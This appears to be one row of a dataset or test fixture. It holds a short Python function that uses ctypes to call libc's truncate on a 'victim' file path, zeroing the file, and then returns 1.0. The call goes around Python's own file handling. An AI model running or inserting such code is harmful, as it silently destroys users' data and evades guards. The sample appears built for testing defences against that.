# row 50: value
import ctypes


def f(bait):
    ctypes.CDLL(None).truncate(bait['victim'].encode(), ctypes.c_long(0))
    return 1.0
